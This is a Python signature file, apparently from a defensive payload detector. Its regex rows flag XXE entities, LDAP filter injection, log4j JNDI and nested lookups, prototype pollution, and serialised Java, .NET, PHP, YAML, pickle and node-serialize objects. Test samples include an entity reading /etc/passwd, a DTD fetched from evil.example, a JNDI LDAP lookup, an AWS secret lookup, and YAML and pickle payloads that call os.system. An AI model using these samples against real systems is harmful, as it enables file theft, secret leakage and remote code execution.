"""Payloads known by form alone: XXE, LDAP, log4j-style lookups, prototype pollution, serialised objects."""

from typing import Final

from limen.features.lexing import words
from limen.features.prose import quieted
from limen.features.signatures.row import ANY, EDGE, Row, S

LDAP: Final = "ldap"

ROWS: Final = (
    Row(
        "xxe-entity",
        "xxe",
        20.0,
        rf"<!entity{S}{{1,8}}(?:%{S}{{1,8}})?[\w.:-]{{1,64}}{S}{{1,8}}(?:system|public)\b",
        "an external entity",
        ('<!ENTITY x SYSTEM "file:///etc/passwd">',),
        ("<!ELEMENT a>",),
    ),
    Row(
        "xxe-inner",
        "xxe",
        14.0,
        rf"<!doctype{ANY}{{0,256}}\[{ANY}{{0,256}}<!entity",
        "entities declared in the document",
        ('<!DOCTYPE a [<!ENTITY b "c">',),
        ("<!DOCTYPE html>",),
    ),
    Row(
        "xxe-doctype",
        "xxe",
        13.0,
        rf"<!doctype{S}{{1,8}}[\w:-]{{1,64}}{S}{{1,8}}(?:system{S}{{1,8}}['\"]"
        rf"|public{S}{{1,8}}['\"][^\x1e'\"]{{1,128}}['\"]{S}{{1,8}}['\"](?:file|ftp|https?)://[^w\x1e])",
        "a document type fetched from elsewhere",
        ('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',),
        (
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtm'
            'l1-strict.dtd">',
        ),
    ),
    Row(
        "xxe-include",
        "xxe",
        16.0,
        rf"<xi:include\b{ANY}{{0,128}}href",
        "an XInclude",
        ('<xi:include href="file:///x"/>',),
        ("<include>",),
    ),
    Row(
        "ldap-filter",
        LDAP,
        0.0,
        rf"\){S}*\(+{S}*[|&](?:\)|\(?[a-z][\w-]*[~<>]?=)|\*\)\(+[a-z][\w-]+[~<>]?=|\)\([a-z][\w-]+[~<>]?=\*"
        r"|\*\){1,4}\x00",
        "a search filter that closes and goes on",
        ("*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*"),
        ("(a)(b=c)", "f(x)(y)"),
    ),
    Row(
        "lookup-jndi",
        "lookup",
        24.0,
        r"\$\{jndi:(?:[a-z]{2,6}:|\$\{)|\$\{jndi:",
        "a lookup that fetches code (CVE-2021-44228)",
        ("${jndi:ldap://x/a}",),
        ("${java.version}",),
    ),
    Row(
        "lookup-nested",
        "lookup",
        20.0,
        r"\$\{(?:[a-z]{0,8}|\$\{[^\x1e{}]{0,32}\}){0,4}\$\{(?:lower|upper|env|sys|::|date"
        r"|base64|main|k8s|web)[^\x1e{}]{0,32}[-:][^\x1e{}]{0,16}\}",
        "a lookup spelt through other lookups",
        ("${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}"),
        ("${a} ${b}",),
    ),
    Row(
        "lookup-env",
        "lookup",
        14.0,
        r"\$\{(?:env|sys|java|ctx|bundle|hostname|web|docker|k8s|spring|base64|script|dns|url"
        r"|file):[^\x1e{}]{1,64}\}",
        "a lookup that reads the machine",
        ("${env:AWS_SECRET_ACCESS_KEY}", "${script:javascript:x}"),
        ("${service.name}", "${JAVA_HOME:-/usr}"),
    ),
    Row(
        "prototype",
        "prototype",
        15.0,
        rf"(?:{EDGE}|[.\[\"'{{])__proto__(?:[\].\[\"' :]|{EDGE})|constructor[\].\[\"':{{ ]{{1,6}}prototype\b",
        "a key that rewrites every object",
        ("__proto__[isAdmin]", "constructor[prototype][x]", '{"__proto__":{}}'),
        ("prototype",),
    ),
    Row(
        "java-object",
        "deserialisation",
        20.0,
        rf"{EDGE}(?:ro0ab[a-z0-9+/=]{{8}}|aced0005[0-9a-f]{{8}})",
        "a serialised Java object",
        ("rO0ABXNyABFqYXZh",),
        ("rolab",),
    ),
    Row(
        "net-object",
        "deserialisation",
        18.0,
        rf"{EDGE}aaeaaad/////|\"\$type\"{S}{{0,4}}:{S}{{0,4}}\"system\.|objectdataprovider",
        "a serialised .NET object",
        ("AAEAAAD/////AQAAAA",),
        ("aaaa",),
    ),
    Row(
        "php-object",
        "deserialisation",
        16.0,
        r"(?:\x1e|[;{])o:\+?[0-9]{1,4}:\"[\w\\]{1,64}\":[0-9]{1,4}:\{",
        "a serialised PHP object",
        ('O:8:"stdClass":1:{s:1:"a";}',),
        ("o:8",),
    ),
    Row(
        "yaml-object",
        "deserialisation",
        18.0,
        r"!!(?:python/|javax?\.|ruby/|com\.sun)|!ruby/(?:object|hash)",
        "YAML that builds objects",
        ("!!python/object/apply:os.system",),
        ("key: !important value",),
    ),
    Row(
        "pickle",
        "deserialisation",
        18.0,
        rf"{EDGE}(?:c(?:os|posix|nt|subprocess|builtins|__builtin__)\x0a\w|ga[sw]v[a-z0-9+/]{{2}}a{{4}}"
        rf"|\x80[\x02-\x05]c)",
        "a Python pickle",
        ("cos\nsystem\n(S'id'",),
        ("cos(x)",),
    ),
    Row(
        "node-object",
        "deserialisation",
        20.0,
        r"_\$\$nd_func\$\$_",
        "node-serialize's function marker",
        ('{"x":"_$$ND_FUNC$$_function(){}"}',),
        ("nd_func",),
    ),
)


def judge_ldap(text: str) -> float:
    """Bits that ``text`` breaks out of a search filter; a filter that is whole by itself is quiet."""
    whole = text.startswith("(") and text.endswith(")") and text.count("(") == text.count(")")
    return quieted(5.0 if whole else 15.0, words(text))
